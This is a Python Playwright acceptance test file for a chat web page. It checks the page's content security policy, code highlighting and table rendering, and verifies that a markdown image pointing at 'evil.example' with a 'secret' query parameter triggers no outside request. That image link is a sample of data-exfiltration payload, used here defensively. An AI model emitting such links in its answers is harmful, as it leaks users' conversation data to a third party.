"""The page under the content security policy that it comes with, whoever serves it."""

from playwright.async_api import Page, expect

from tests.acceptance.browser.chat_page import ChatPage

_EVERYTHING = """# A title

```python
print("code")
```

$$e = mc^2$$

| a | b |
| - | - |
| 1 | 2 |
"""


async def test_whatever_an_answer_shows_is_allowed(page: Page) -> None:
    document = await page.goto("/")
    assert document is not None
    assert "default-src 'self'" in document.headers["content-security-policy"]
    chat = ChatPage(page)
    await chat.open()
    await chat.send(_EVERYTHING)
    answer = await chat.ends("complete")
    # Coloured code, of which the page says so in its styles.
    await expect(answer.locator("pre span[style]").first).to_be_visible()
    await expect(answer.get_by_role("table")).to_be_visible()
    await page.goto("/numbers")
    await expect(page.get_by_role("heading", name="Numbers")).to_be_visible()


async def test_a_picture_from_elsewhere_tells_nobody(page: Page, console_errors: list[str]) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    chat = ChatPage(page)
    await chat.open()
    await chat.send("![said](https://evil.example/?said=secret)")
    # A link stands in its place.
    answer = await chat.ends("complete")
    await expect(answer.get_by_role("link", name="said", exact=True)).to_be_visible()
    assert not [url for url in asked if "evil.example" in url]
    assert all("evil.example" in line or "Content Security" in line for line in console_errors)
    console_errors.clear()
